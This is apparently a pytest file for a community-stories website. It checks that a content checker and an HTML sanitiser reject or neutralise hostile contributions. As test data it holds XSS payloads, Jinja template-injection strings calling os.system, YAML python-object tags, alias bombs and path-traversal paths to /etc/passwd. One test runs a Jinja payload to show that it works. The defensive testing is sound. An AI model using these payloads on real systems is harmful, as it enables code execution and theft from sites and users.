"""The adversarial corpus: what a hostile contributor could send, and exactly what happens.

Every file in tests/fixtures/hostile/ is a story or resource written to attack the site. Each
has one expected outcome, held word for word:

* REJECTED: the checker refuses it, with exactly these (line, column, message) problems;
* RENDERED: it passes the checker, and our renderer turns its body into exactly this HTML.

Hazards that cannot live in a repository as plain files (symbolic links, invalid UTF-8, an
oversized file, bombs of 100 KB) are made at run time. The sanitiser, the second wall, is also
tested on raw HTML the checker would never let through. A few real builds prove the rest:
macros never run on contributed content, a failed check stops the build before any plugin sees
a page, nothing is half-published, and every front-matter value is escaped on every page.
"""

from __future__ import annotations

import logging
import os
import re
import shutil
import subprocess
import time
from pathlib import Path

import jinja2
import pytest
from mkdocs.commands.build import build as mkdocs_build
from mkdocs.config import load_config
from mkdocs.exceptions import Abort

from doingwith import strict_yaml
from doingwith.content import load_resource, load_story
from doingwith.project import Project, check_project
from doingwith.render import ContentRenderer, sanitise
from doingwith.vocabularies import load_vocabularies
from tests.helpers import REPO, TODAY, VALID_STORY, build, make_project, write

HOSTILE = REPO / "tests" / "fixtures" / "hostile"
VOCABULARIES = load_vocabularies()
MEDIA_PREFIX = "../media/"  # what a story page's URL makes of media/ (stories/<slug>/ -> stories/media/)

# --- the checker's words ---------------------------------------------------------------

STORY_FIELDS = (
    "title, summary, summary_cy, nation, places, organisations, principles, stages, themes, status, period, "
    "published, last_reviewed, authors, co_authors, consent, sources, outcomes, contact, images, language"
)
RENDER_MACROS = (
    "`render_macros` is not allowed: templates and macros never run on stories or resources; delete this line"
)


def raw_html(snippet: str) -> str:
    return (
        f"raw HTML is not allowed ({snippet}); write it in Markdown instead "
        "(for example **bold**, [link text](https://...)), or leave it out"
    )


def template(opener: str) -> str:
    return (
        f"{opener} is template syntax, which never runs in stories, resources or learning notes; "
        "remove it, or put it in `backticks` if you are showing code"
    )


def template_in(field: str, opener: str) -> str:
    return (
        f"`{field}` contains {opener}, which is template syntax; "
        "stories and resources never run templates, so remove it"
    )


def unknown(field: str) -> str:
    return f"unknown field `{field}`. Known fields here: {STORY_FIELDS}"


def anchor(name: str) -> str:
    return f"anchors (`&{name}`) are not allowed; write the value out in full"


def alias(name: str) -> str:
    return f"aliases (`*{name}`) are not allowed; write the value out in full"


def scheme(name: str, allowed: str = "https:, http:, mailto:") -> str:
    return f"links starting {name}: are not allowed; use {allowed}"


NOT_UTF8 = "this is not UTF-8 text (byte 0x{:02x}); save the file as UTF-8 in your editor"
DEEP = "the front matter is nested more than 20 levels deep here; no field needs that, so check the brackets and indentation"
OUTSIDE_MEDIA = "'{}' reaches outside the media/ folder; write media/<file name>"
NOT_A_FILE = (
    "the image must be a file in the media/ folder beside your file, not a web address; "
    "add the file to media/ and write media/<file name>"
)
RESOURCE_TYPES = ".docx, .xlsx, .pptx, .odt, .ods, .odp, .pdf, .csv, .txt, .rtf"

# --- hostile files the checker refuses, with every problem it must report ----------------

REJECTED = {
    "stories/alias-bomb.md": [
        (39, 1, unknown("lol1")),
        (39, 7, anchor("lol1")),
        (40, 1, unknown("lol2")),
        (40, 7, anchor("lol2")),
        (40, 14, alias("lol1")),
        (40, 21, alias("lol1")),
        (40, 28, alias("lol1")),
        (41, 1, unknown("lol3")),
        (41, 8, alias("lol2")),
        (41, 15, alias("lol2")),
        (41, 22, alias("lol2")),
    ],
    "stories/attr-list-with-id.md": [
        (
            40,
            1,
            "the section '## What happened' is missing; add a heading '## What happened' "
            "and write that part of the story under it",
        ),
        (41, 18, template("{#")),
    ],
    "stories/control-characters.md": [
        # The escape sequences are quoted back escaped: they never reach the terminal.
        (
            7,
            9,
            "`nation`: '\\x1b]0;pwned\\x07\\x1b[2J\\x1b]8;;https://evil.example\\x1b\\click\\x1b]8;;\\x1b\\' "
            "is not a known nation. Allowed: northern-ireland, scotland, wales",
        ),
    ],
    "stories/data-links.md": [
        (36, 10, "`sources[1].url`: " + scheme("data", "https:, http:")),
        (55, 23, NOT_A_FILE),
        (59, 14, scheme("data")),
        (60, 19, raw_html("<script>")),
        (60, 35, raw_html("</script>")),
    ],
    "stories/deep-nesting.md": [
        (3, 27, DEEP),
    ],
    "stories/duplicate-keys.md": [
        (8, 1, "`nation` appears twice (first at line 7); keep one and delete the other"),
        # The first value counts, and is checked: PyYAML would have kept the last, true.
        (32, 15, "`consent.to_publish` must be true: a story is published only with consent to publish it"),
        (34, 3, "`to_publish` appears twice (first at line 32); keep one and delete the other"),
        (35, 3, "`anonymised` appears twice (first at line 33); keep one and delete the other"),
        (42, 1, "`title` appears twice (first at line 3); keep one and delete the other"),
    ],
    "stories/javascript-links.md": [
        (36, 10, "`sources[1].url`: " + scheme("javascript", "https:, http:")),
        (41, 8, "`contact.url`: " + scheme("javascript", "https:, http:")),
        (42, 10, "`contact.email`: " + scheme("javascript", "mailto:")),
        (63, 19, scheme("javascript")),
        (64, 24, scheme("javascript")),
        (65, 3, scheme("javascript")),
        (68, 9, scheme("javascript")),
    ],
    "stories/jinja-reads-the-environment.md": [
        (6, 20, template_in("summary", "{{")),
        (51, 20, template("{{")),
        (51, 41, template("{{")),
    ],
    "stories/jinja-writes-a-file.md": [
        (39, 1, RENDER_MACROS),
        (52, 1, template("{%")),
        (56, 1, template("{{")),
        (56, 85, template("{#")),
    ],
    "stories/merge-key.md": [
        (30, 1, unknown("base")),
        (30, 7, anchor("consent")),
        (32, 3, "`consent.anonymised` is missing; add it: true or false"),
        (32, 3, "`consent.basis` is missing; add it: one of `written-consent`, `published-sources`"),
        (32, 3, "`consent.to_publish` is missing; add it: true"),
        (32, 3, "unknown field `consent.<<`. Known fields here: to_publish, anonymised, basis"),
        (32, 7, alias("consent")),
    ],
    "stories/mkdocs-meta-keys.md": [
        (39, 1, unknown("template")),
        (40, 1, unknown("hide")),
        (41, 1, unknown("search")),
        (43, 1, RENDER_MACROS),
        (44, 9, "`status`: 'new' is not allowed. Allowed: to-classify"),
    ],
    "stories/other-schemes.md": [
        (59, 14, scheme("vbscript")),
        (60, 16, scheme("file")),
        (61, 12, "'//evil.example/plan' is not a full web address; start it with https://"),
        (62, 10, "'evil.example/plan' is not a full web address; start it with https://"),
    ],
    "stories/path-traversal.md": [
        (40, 10, "`images`: " + OUTSIDE_MEDIA.format("../../../../etc/passwd.png")),
        (42, 10, "`images`: " + OUTSIDE_MEDIA.format("/etc/hosts.png")),
        (44, 10, "`images`: " + NOT_A_FILE),
        (46, 10, "`images`: 'media/sub/park.png' must be written media/<file name>"),
        (64, 15, OUTSIDE_MEDIA.format("media/../../../etc/shadow.jpg")),
        (66, 15, OUTSIDE_MEDIA.format("../media/park.png")),
        (68, 15, OUTSIDE_MEDIA.format("media\\..\\..\\secret.png")),
    ],
    "stories/python-tags.md": [
        (3, 8, "YAML tags (`tag:yaml.org,2002:python/object/apply:os.system`) are not allowed; remove the tag"),
        (3, 8, "`title` should be text, not a list"),
        (7, 9, "YAML tags (`!include`) are not allowed; remove the tag"),
        (7, 9, "`nation`: '/etc/passwd' is not a known nation. Allowed: northern-ireland, scotland, wales"),
        (8, 9, "YAML tags (`tag:yaml.org,2002:python/name:os.system`) are not allowed; remove the tag"),
        (17, 9, "YAML tags (`tag:yaml.org,2002:set`) are not allowed; remove the tag"),
        (17, 9, "`stages` must be a list of ids such as [co-commissioning, co-design]"),
    ],
    "stories/script-in-body.md": [
        (43, 83, raw_html("<script>")),
        (43, 142, raw_html("</script>")),
        (47, 1, raw_html("<SCRIPT SRC=https://>")),
        (47, 39, raw_html("</SCRIPT>")),
        (48, 1, raw_html("<svg onload=alert(1)>")),
        (49, 1, raw_html("<img src=x onerror=a>")),
        (53, 1, raw_html('<iframe src="https:/>')),
        (53, 36, raw_html("</iframe>")),
        (53, 46, raw_html("<style>")),
        (53, 71, raw_html("</style>")),
        (57, 1, raw_html("<!-- <script>")),
        (57, 6, raw_html("<script>")),
        (57, 22, raw_html("</script>")),
        (57, 36, raw_html('<a href="https://evi>')),
        (57, 90, raw_html("</a>")),
        (62, 1, raw_html("<?php system('id'); >")),
        (62, 24, raw_html("<![CDATA[ x ]]>")),
        (62, 40, raw_html("<!DOCTYPE html>")),
    ],
    "stories/script-in-summary.md": [
        (6, 3, "`summary` contains HTML (<img src=x onerror=alert(1)>); write plain text without < and >"),
    ],
    "stories/script-in-title.md": [
        (3, 13, "`title` contains HTML (</title>); write plain text without < and >"),
    ],
    "stories/templates-in-every-field.md": [
        (10, 6, template_in("organisations[1]", "{{")),
        (14, 16, template_in("principles[1].evidence", "{%")),
        (25, 12, template_in("authors[1].name", "{#")),
        (35, 13, template_in("sources[1].title", "{{")),
    ],
    "stories/vague-and-empty-links.md": [
        (
            59,
            3,
            "link text 'click here' does not say where the link goes; use words that describe the page, "
            "such as [the council's community plan](https://...)",
        ),
        (60, 3, "this link has no text; write what the link leads to inside the brackets"),
        (61, 3, "this link has no text; write what the link leads to inside the brackets"),
    ],
    "resources/resource-download-traversal.md": [
        (9, 7, "`file`: 'files/../../../../etc/passwd.txt' reaches outside the files/ folder; write files/<file name>"),
    ],
    "resources/resource-html-download.md": [
        (9, 7, f"`file`: files of type '.html' are not allowed; use one of {RESOURCE_TYPES}"),
    ],
    "resources/resource-javascript-url.md": [
        (3, 1, "give exactly one of `file` (a file in resources/files/) or `url` (a resource published elsewhere)"),
        (9, 6, "`url`: " + scheme("javascript", "https:, http:")),
        (10, 7, "`file`: 'files/canvas.docx' does not exist; add the file to files/ or fix the name"),
    ],
    "resources/resource-svg-download.md": [
        (9, 7, f"`file`: files of type '.svg' are not allowed; use one of {RESOURCE_TYPES}"),
    ],
    "resources/resource-templates.md": [
        (3, 16, template_in("title", "{{")),
        (13, 1, RENDER_MACROS),
        (22, 1, template("{%")),
        (22, 54, template("{{")),
        (22, 61, template("{%")),
    ],
    "resources/script-in-resource.md": [
        (4, 11, "`summary` contains HTML (<img src=x onerror=alert(1)>); write plain text without < and >"),
        (10, 13, "`publisher` contains HTML (<script>); write plain text without < and >"),
        (21, 1, raw_html('<iframe src="https:/>')),
        (21, 36, raw_html("</iframe>")),
    ],
}

# --- hostile files that pass the checker, with the exact HTML their body becomes ---------

_FIND_OUT_MORE = (
    '<h2 id="find-out-more">Find out more</h2>\n<ul>\n'
    '<li><a href="https://example.org/park-plan" rel="noopener noreferrer">The park plan consultation</a></li>\n'
    "</ul>"
)
_WHAT_HAPPENED = (
    '<h2 id="what-happened">What happened</h2>\n'
    "<p>Residents asked for a better park. Glimmerwick zebra-crossing workshops followed.</p>\n"
)
_WHO = '<h2 id="who-was-involved-and-how">Who was involved and how</h2>\n'
_CHANGED = '<h2 id="what-changed">What changed</h2>\n'
_LEARNED = '<h2 id="what-we-learned">What we learned</h2>\n'

RENDERED = {
    # attr_list is not one of our extensions: its attributes stay visible text, never attributes.
    "stories/attr-list-is-plain-text.md": (
        '<h2 id="what-happened">What happened</h2>\n'
        "<p>Residents asked for a better park. Glimmerwick zebra-crossing workshops followed.\n"
        '{: onclick="alert(1)" style="position:fixed;inset:0" }</p>\n'
        + _WHO
        + '<p><a href="https://example.org/park-plan" rel="noopener noreferrer">The plan</a>'
        '{: target="_blank" onmouseover="alert(1)" }</p>\n'
        + _CHANGED
        + '<p><img alt="Children on the new swings" loading="lazy" src="../media/park.png">{: onerror="alert(1)" }</p>\n'
        + _LEARNED
        + '<h3 id="one-lesson-md-button-onclickalert1">One lesson {: .md-button onclick="alert(1)" }</h3>\n'
        "<p>Start with what people already do.</p>\n" + _FIND_OUT_MORE
    ),
    # The checker reads line by line and misses these; the sanitiser leaves nothing that can run
    # or reach another host: no onerror, no javascript: href, no image from elsewhere.
    "stories/checker-gaps-second-wall.md": (
        '<h2 id="what-happened">What happened</h2>\n'
        "<p>A lone <code>backtick pairs with the next line's,\n"
        'so</code><img src="x">` is raw HTML to Markdown.</p>\n'
        + _WHO
        # (HTML between escaped backticks was a gap too, until the checker learnt to read \` as Markdown does.)
        + "<p>Escaped `backticks` stay backticks.</p>\n"
        + _CHANGED
        # (So were a [label]: line with its address on the next line, and a link or picture whose
        # address is on the line after its "(", until the checker read those as Markdown does.)
        + "<p>The plan changed.</p>\n"
        + _LEARNED
        + '<p><img alt="A tracking pixel" loading="lazy"></p>\n'
        "A title\n"
        "<p>Entities stay text: &lt;script&gt;alert(5)&lt;/script&gt;</p>\n" + _FIND_OUT_MORE
    ),
    "stories/fenced-code-is-code.md": (
        _WHAT_HAPPENED
        + _WHO
        + "<p>Parents, children and officers met every month.</p>\n"
        + _CHANGED
        + "<p>The park opened in 2023.</p>\n"
        "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;\n\n&lt;img src=x onerror=alert(1)&gt;\n</code></pre>\n"
        "<pre><code>{{ cycler.__init__.__globals__.os.system('touch pwned-by-fence') }}\n</code></pre>\n"
        + _LEARNED
        + "<p>Start with what people already do.</p>\n" + _FIND_OUT_MORE
    ),
    "stories/templates-in-code-spans.md": (
        _WHAT_HAPPENED
        + _WHO
        + "<p>Parents, children and officers met every month.</p>\n"
        + _CHANGED
        + "<p>We wrote <code>{{ cycler.__init__.__globals__.os.system('touch pwned-by-code-span') }}</code> and "
        "<code>{% include '/etc/passwd' %}</code> on the sign.</p>\n"
        + _LEARNED
        + "<p>Start with what people already do.</p>\n" + _FIND_OUT_MORE
    ),
    "stories/quotes-and-ampersands.md": (
        _WHAT_HAPPENED
        + _WHO
        + '<p>Parents &amp; children "met" &lt;3 each month; see '
        '<a href="https://example.org/plan?a=1&amp;b=2" rel="noopener noreferrer">the plan</a>.</p>\n'
        + _CHANGED
        + "<p>The park opened in 2023.</p>\n"
        + _LEARNED
        + "<p>Start with what people already do.</p>\n" + _FIND_OUT_MORE
    ),
    "resources/resource-quotes-and-links.md": (
        '<h2 id="what-it-is">What it is</h2>\n'
        "<p>A one-page canvas for the first planning meeting.</p>\n"
        '<h2 id="how-to-use-it">How to use it</h2>\n'
        '<p>Print it &amp; fill it in; see <a href="https://example.org/guide?a=1&amp;b=2" rel="noopener noreferrer">'
        'the guide</a> or <a href="https://example.org/more" rel="noopener noreferrer">https://example.org/more</a>, '
        'or write to <a href="mailto:canvas@example.org" rel="noopener noreferrer">canvas@example.org</a>. '
        "<code>{{ 7 * 7 }}</code></p>"
    ),
}


def check(path: Path, display: str | None = None):
    """The checked item (or None) and its errors as sorted (line, col, message) triples."""
    kind = path.parent.name
    loader = load_story if kind == "stories" else load_resource
    item, problems = loader(path, VOCABULARIES, TODAY, display=display or f"{kind}/{path.name}")
    return item, sorted((p.line, p.col, p.message) for p in problems if not p.warning)


def fixture_names() -> list[str]:
    return sorted(f"{p.parent.name}/{p.name}" for p in HOSTILE.glob("*/*.md"))


def test_every_hostile_file_has_exactly_one_expected_outcome():
    names = fixture_names()
    assert len(names) >= 25
    assert sorted([*REJECTED, *RENDERED]) == names
    assert not set(REJECTED) & set(RENDERED)


@pytest.mark.parametrize("name", sorted(REJECTED))
def test_hostile_file_is_rejected_with_exactly_these_problems(name):
    item, problems = check(HOSTILE / name)
    assert item is None
    assert problems == REJECTED[name]


@pytest.mark.parametrize("name", sorted(RENDERED))
def test_hostile_but_valid_file_renders_to_exactly_this_html(name):
    item, problems = check(HOSTILE / name)
    assert problems == []
    html, _toc = ContentRenderer().render(item.body, media_prefix=MEDIA_PREFIX)
    assert html == RENDERED[name]


def test_the_jinja_payloads_are_live_outside_this_site(tmp_path, monkeypatch):
    """Plain Jinja, which the macros plugin uses, would run the fixture's payload: it is no dud."""
    line = next(
        line
        for line in (HOSTILE / "stories" / "jinja-writes-a-file.md").read_text(encoding="utf-8").splitlines()
        if line.startswith("{% set")
    )
    monkeypatch.chdir(tmp_path)
    jinja2.Environment().from_string(line).render()
    assert (tmp_path / "pwned-by-jinja").exists()


# --- hazards made at run time ----------------------------------------------------------------


def test_symlinked_story_is_refused_without_being_read(tmp_path):
    linked = tmp_path / "stories" / "linked-story.md"
    linked.parent.mkdir()
    linked.symlink_to("/etc/passwd")  # were it read, "must start with ---" would follow
    assert check(linked) == (
        None,
        [(1, 1, "this story file is a link to another file; commit the real file instead")],
    )


def test_symlinked_resource_is_refused(tmp_path):
    real = write(tmp_path / "elsewhere" / "canvas.md", (HOSTILE / "resources" / "resource-quotes-and-links.md").read_text())
    linked = tmp_path / "resources" / "canvas.md"
    linked.parent.mkdir()
    linked.symlink_to(real)
    assert check(linked) == (
        None,
        [(1, 1, "this resource file is a link to another file; commit the real file instead")],
    )


def test_symlinked_media_file_is_refused_wherever_it_is_used(tmp_path):
    secret = write(tmp_path / "secret.png", b"\x89PNG not really")
    media = tmp_path / "stories" / "media"
    media.mkdir(parents=True)
    (media / "stolen.png").symlink_to(secret)
    text = VALID_STORY.replace(
        "language: en\n", 'language: en\nimages:\n  - src: media/stolen.png\n    alt: "A stolen picture"\n'
    ).replace("Start with what people already do.", "![A stolen picture](media/stolen.png)")
    story = write(tmp_path / "stories" / "stolen-picture.md", text)
    link = "'media/stolen.png' is a link to another file; put the real file in media/"
    assert check(story) == (None, [(39, 10, f"`images`: {link}"), (57, 21, link)])


def test_symlinked_resource_download_is_refused(tmp_path):
    secret = write(tmp_path / "secret.pdf", b"%PDF-1.4 secret")
    (tmp_path / "resources" / "files").mkdir(parents=True)
    (tmp_path / "resources" / "files" / "canvas.pdf").symlink_to(secret)
    text = (HOSTILE / "resources" / "resource-quotes-and-links.md").read_text().replace(
        'url: "https://example.org/canvas"', "file: files/canvas.pdf"
    )
    resource = write(tmp_path / "resources" / "canvas.md", text)
    assert check(resource) == (
        None,
        [(9, 7, "`file`: 'files/canvas.pdf' is a link to another file; put the real file in files/")],
    )


def test_symlinked_media_folder_is_refused(tmp_path):
    write(tmp_path / "stories" / "park-story.md", VALID_STORY)
    (tmp_path / "stories" / "media").symlink_to("/etc")
    result = check_project(Project(tmp_path), today=TODAY)
    assert [str(p) for p in result.errors] == [
        "stories/media:1:1: this link does not belong in stories/: only .md files and the media/ folder do; "
        "move or delete it"
    ]


def test_control_characters_in_a_file_name_are_shown_escaped(tmp_path):
    name = "\x1b]0;pwned\x07.md"
    path = write(tmp_path / "stories" / name, VALID_STORY)
    _story, problems = load_story(path, VOCABULARIES, TODAY, display=f"stories/{name}")
    assert [str(p) for p in problems] == [
        "stories/\\x1b]0;pwned\\x07.md:1:1: the file name '\\x1b]0;pwned\\x07.md' must be the story's slug: "
        "lower-case words joined by hyphens, at most 80 characters, ending .md (for example 0-pwned.md)"
    ]


def padded(text: str, size: int) -> bytes:
    """``text`` followed by paragraphs of x (each under the line-length limit), ``size`` bytes in all."""
    data = text.encode("utf-8") + b"\n"
    filler = size - len(data)
    paragraphs = b""
    while filler > 0:
        chunk = min(filler, 4_001)
        paragraphs += b"x" * (chunk - 1) + b"\n" if chunk > 1 else b"\n"
        filler -= chunk
    return data + paragraphs


def test_oversized_story_is_refused_and_the_limit_itself_is_allowed(tmp_path):
    story = write(tmp_path / "stories" / "long-story.md", padded(VALID_STORY, 100_001))
    assert check(story) == (
        None,
        [(1, 1, "the file is 100,001 bytes, over the limit of 100,000; shorten it or split it into two stories")],
    )
    write(story, padded(VALID_STORY, 100_000))
    assert check(story)[1] == []


def test_oversized_resource_is_refused_in_its_own_words(tmp_path):
    text = (HOSTILE / "resources" / "resource-quotes-and-links.md").read_text()
    resource = write(tmp_path / "resources" / "long-canvas.md", padded(text, 250_000))
    assert check(resource) == (
        None,
        [(1, 1, "the file is 250,000 bytes, over the limit of 100,000; shorten it or split it into two resources")],
    )


def test_invalid_utf8_is_refused_at_the_bad_byte(tmp_path):
    latin1 = VALID_STORY.encode("utf-8").replace(b"a play park", b"a play park in Caf\xe9 Street")
    story = write(tmp_path / "stories" / "latin-1.md", latin1)
    assert check(story) == (None, [(2, 62, NOT_UTF8.format(0xE9))])
    write(story, VALID_STORY.encode("utf-16"))
    assert check(story) == (None, [(1, 1, NOT_UTF8.format(0xFF))])


def test_the_bad_byte_is_placed_by_characters_not_bytes(tmp_path):
    # After Welsh letters (two bytes each in UTF-8), the column an editor shows: it was
    # counted in bytes, past the end of the line as an editor sees it.
    welsh = VALID_STORY.encode("utf-8").replace(b"a play park", "a play park yn Nhŷ Ŵyn".encode() + b" caf\xe9")
    story = write(tmp_path / "stories" / "welsh.md", welsh)
    line = next(t for t in welsh.split(b"\n") if b"\xe9" in t)
    assert check(story) == (None, [(2, len(line.split(b"\xe9")[0].decode()) + 1, NOT_UTF8.format(0xE9))])
    assert len(line.split(b"\xe9")[0].decode()) < len(line.split(b"\xe9")[0])


def timed(function, *args):
    start = time.perf_counter()
    result = function(*args)
    return result, time.perf_counter() - start


def test_billion_laughs_is_refused_fast_and_never_expanded(tmp_path):
    levels = ['lol1: &lol1 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for level in range(2, 10):
        name = f"&lol{level} " if level < 9 else ""
        levels.append(f"lol{level}: {name}[{', '.join([f'*lol{level - 1}'] * 9)}]")
    bomb = "\n".join(levels) + "\n"
    story = write(tmp_path / "stories" / "laughs.md", VALID_STORY.replace("language: en\n", "language: en\n" + bomb))
    (item, problems), seconds = timed(check, story)
    expected = []
    for offset, line in enumerate(levels):
        line_no = 38 + offset
        expected.append((line_no, 1, unknown(f"lol{offset + 1}")))
        expected += [(line_no, m.start() + 1, anchor(m.group(1))) for m in re.finditer(r"&(lol\d)", line)]
        expected += [(line_no, m.start() + 1, alias(m.group(1))) for m in re.finditer(r"\*(lol\d)", line)]
    assert item is None
    assert problems == sorted(expected)
    assert len(problems) == 9 + 8 + 8 * 9
    assert seconds < 1.0, f"took {seconds:.2f} s"
    # Nothing was expanded: 9**9 "lol"s would be 387 million nodes; the tree holds a few hundred.
    root, _ = strict_yaml.parse(bomb)

    def count(node):
        children = node.items if isinstance(node, strict_yaml.Sequence) else (
            [v for _k, v in node.items.values()] if isinstance(node, strict_yaml.Mapping) else []
        )
        return 1 + sum(count(child) for child in children)

    assert count(root) < 200


def test_deeply_nested_brackets_are_refused_fast(tmp_path):
    depth = 49_000  # about 98 KB: libyaml alone needs seconds for this
    story = write(
        tmp_path / "stories" / "nested.md",
        VALID_STORY.replace('title: "Residents and the council redesign a play park"', "title: " + "[" * depth + "]" * depth),
    )
    (item, problems), seconds = timed(check, story)
    assert (item, problems) == (None, [(2, 27, DEEP)])
    assert seconds < 1.0, f"took {seconds:.2f} s"


def test_lines_built_to_make_the_checker_backtrack_are_checked_fast(tmp_path):
    """Before the fix, the heading took hours and the backticks minutes. Within the
    line-length limit they are checked at once; beyond it they are refused unread."""
    heading = "### x" + "#" * 2_400 + " " * 2_400 + "y"
    backticks = "A " + "`" * 4_900  # not at the start of the line: that would open a fence
    story = write(
        tmp_path / "stories" / "slow-lines.md",
        VALID_STORY.replace("Start with what people already do.", f"{heading}\n\n{backticks}"),
    )
    (item, problems), seconds = timed(check, story)
    assert problems == [] and item is not None
    assert seconds < 2.0, f"took {seconds:.2f} s"
    write(story, VALID_STORY.replace("Start with what people already do.", "A " + "[" * 44_000))
    (item, problems), seconds = timed(check, story)
    assert item is None and seconds < 2.0
    assert problems == [
        (54, 1, "this line is 44,002 characters long, over the limit of 5,000; break it into shorter paragraphs")
    ]


def test_python_tag_is_refused_and_nothing_is_constructed(tmp_path):
    marker = tmp_path / "pwned-by-yaml"
    root, problems = strict_yaml.parse(f'title: !!python/object/apply:os.system ["touch {marker}"]\n', 1)
    assert [(p.line, p.col, p.message) for p in problems] == [
        (2, 8, "YAML tags (`tag:yaml.org,2002:python/object/apply:os.system`) are not allowed; remove the tag")
    ]
    assert isinstance(root.items["title"][1], strict_yaml.Sequence)  # plain events, nothing built
    assert not marker.exists()


# --- the second wall: the sanitiser on raw HTML the checker would never let through ------------

SANITISED = [
    ("<script>alert(1)</script><p>Kept</p>", "<p>Kept</p>"),
    ('<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>', ""),
    (
        '<p onclick="alert(1)" onmouseover="alert(2)" style="position:fixed;inset:0" class="md-button">Text</p>',
        "<p>Text</p>",
    ),
    ('<img src="x" onerror="alert(1)" alt="A park">', '<img src="x" alt="A park">'),
    # Images come only from the site's own media: another host, however written, loses its address.
    ('<img src="https://evil.example/pixel.png" alt="A pixel">', '<img alt="A pixel">'),
    ('<img src="//evil.example/pixel.png" alt="A pixel">', '<img alt="A pixel">'),
    ('<img src=" /\t/evil.example/pixel.png" alt="A pixel">', '<img alt="A pixel">'),
    ('<img src="&#47;&#47;evil.example/pixel.png" alt="A pixel">', '<img alt="A pixel">'),
    ('<img src="\\\\evil.example\\pixel.png" alt="A pixel">', '<img alt="A pixel">'),
    ('<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="A chart">', '<img alt="A chart">'),
    ('<img src="../media/park.png" alt="A park">', '<img src="../media/park.png" alt="A park">'),
    ('<a href="javascript:alert(1)">The plan</a>', '<a rel="noopener noreferrer">The plan</a>'),
    ('<a href="JaVaScRiPt:alert(1)">The plan</a>', '<a rel="noopener noreferrer">The plan</a>'),
    ('<a href="java&#x09;script:alert(1)">The plan</a>', '<a rel="noopener noreferrer">The plan</a>'),
    ('<a href="&#106;avascript:alert(1)">The plan</a>', '<a rel="noopener noreferrer">The plan</a>'),
    ('<a href="vbscript:msgbox(1)">The plan</a>', '<a rel="noopener noreferrer">The plan</a>'),
    (
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">The plan</a>',
        '<a rel="noopener noreferrer">The plan</a>',
    ),
    (
        '<a href="https://example.org/plan" target="_blank" rel="opener" onclick="steal()">The plan</a>',
        '<a href="https://example.org/plan" rel="noopener noreferrer">The plan</a>',
    ),
    (
        '<a href="mailto:parks@example.org">Email the parks team</a>',
        '<a href="mailto:parks@example.org" rel="noopener noreferrer">Email the parks team</a>',
    ),
    ('<iframe src="https://evil.example"></iframe><p>After</p>', "<p>After</p>"),
    ('<svg onload="alert(1)"><circle r="1"/></svg>', ""),
    ('<math><mi xlink:href="javascript:alert(1)">x</mi></math>', ""),
    ("<style>body{display:none}</style><p>Visible</p>", "<p>Visible</p>"),
    ('<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">', ""),
    ('<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>', "Log in"),
    (
        '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">'
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        "",
    ),
    ('<h2 id="what-happened" onclick="alert(1)">What happened</h2>', '<h2 id="what-happened">What happened</h2>'),
    ("<!-- <script>alert(1)</script> --><p>After a comment</p>", "<p>After a comment</p>"),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', '&lt;p title="<img src="x">"&gt;'),
    (
        '<table><tr><td align="left" style="color:red" onclick="x">Cell</td></tr></table>',
        '<table><tbody><tr><td align="left">Cell</td></tr></tbody></table>',
    ),
    ('<h1>Second title</h1><div class="md-typeset">Text</div>', "Second titleText"),
    ("<template><script>alert(1)</script></template><p>x</p>", "<p>x</p>"),
    ("<textarea><script>alert(1)</script></textarea>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
]


@pytest.mark.parametrize("dirty, clean", SANITISED, ids=[f"{i:02d}" for i in range(len(SANITISED))])
def test_sanitiser_keeps_only_the_allow_list(dirty, clean):
    assert sanitise(dirty) == clean


def test_table_of_contents_names_carry_no_markup():
    """Heading names go to the theme's sidebar without passing the sanitiser: they stay text."""
    body = (
        "## &lt;img src=x onerror=alert(1)&gt;\n\n"
        "## Escaped \\`<img src=x onerror=alert(2)>` backtick\n\n"
        "## A `<script>` & \"quotes\"\n"
    )
    _html, toc = ContentRenderer().render(body)
    assert [token["name"] for token in toc] == [
        "&lt;img src=x onerror=alert(1)&gt;",
        "Escaped `` backtick",
        'A &lt;script&gt; &amp; "quotes"',
    ]


def test_every_link_in_a_rendered_body_gets_noopener_noreferrer():
    body = (
        "[The plan](https://example.org/plan) <https://example.org/more> <parks@example.org> "
        "[Mail](mailto:parks@example.org) [Old](http://example.org/old)\n\n[ref]: https://example.org/ref\n\n[By ref][ref]"
    )
    html, _ = ContentRenderer().render(body)
    anchors = re.findall(r"<a\b[^>]*>", html)
    assert len(anchors) == 6
    assert all('rel="noopener noreferrer"' in a for a in anchors), anchors


# --- real builds -------------------------------------------------------------------------------

BUILT_STORIES = [
    "quotes-and-ampersands.md",
    "templates-in-code-spans.md",
    "fenced-code-is-code.md",
    "checker-gaps-second-wall.md",
    "attr-list-is-plain-text.md",
]
MARKERS = ("pwned-by-code-span", "pwned-by-fence", "pwned-by-media", "pwned-by-jinja", "pwned-by-yaml")


def spy_on_plugin(config, name: str) -> list:
    """Record every event the named plugin receives, and the Markdown and meta it is given."""
    plugin, calls = config.plugins[name], []
    for event, methods in config.plugins.events.items():
        for index, method in enumerate(methods):
            if getattr(method, "__self__", None) is not plugin:
                continue

            def spy(*args, _method=method, _event=event, **kwargs):
                page = kwargs.get("page")
                if page is not None:
                    calls.append((_event, page.file.src_uri, args[0], dict(page.meta)))
                else:
                    calls.append((_event, None, None, None))
                return _method(*args, **kwargs)

            spy.mkdocs_priority = getattr(method, "mkdocs_priority", 0)
            methods[index] = spy
    return calls


def build_in_process(root: Path) -> list:
    """`mkdocs build` in this process, with a spy on the macros plugin; returns what it saw."""
    config = load_config(config_file=str(root / "mkdocs.yml"))
    calls = spy_on_plugin(config, "macros")
    cwd = os.getcwd()
    os.chdir(root)  # where a payload's relative `touch` would land
    try:
        mkdocs_build(config)
    finally:
        os.chdir(cwd)
    return calls


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    """A real site with hostile-but-valid stories and a resource, and hostile files in the media
    folders; built once. Returns (project root, what the macros plugin saw)."""
    root = tmp_path_factory.mktemp("hostile-site")
